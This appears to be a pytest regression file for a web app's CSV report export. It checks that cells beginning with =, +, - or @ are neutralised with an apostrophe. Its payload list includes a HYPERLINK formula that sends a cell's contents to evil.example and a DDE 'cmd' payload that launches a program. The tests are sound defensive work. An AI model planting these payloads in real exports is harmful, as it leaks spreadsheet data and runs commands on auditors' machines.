"""Attack replay: an ``instansi`` of ``=HYPERLINK(...)`` was exported verbatim in
``/laporan/langkah.csv``, a live formula in the auditor's spreadsheet. Text cells starting
with = + - @ TAB CR (OWASP's list) now start with an apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tests.integration.web.conftest import Site
from webui.reports.csvexport import cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_instansi_is_exported_as_text(site: Site, formula: str) -> None:
    site.at_step("2", instansi=formula)
    response = site.client("auditor").get("/laporan/langkah.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows
    assert {r["instansi"] for r in rows} == {"'" + formula}


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("Dinas A", "Dinas A"),
    (-1.5, -1.5), (3, 3), (None, ""), ("2026-01-01T08:00:00+07:00", "2026-01-01T08:00:00+07:00"),
])
def test_only_text_that_a_spreadsheet_would_run_is_changed(value: object, safe: object) -> None:
    assert cell(value) == safe
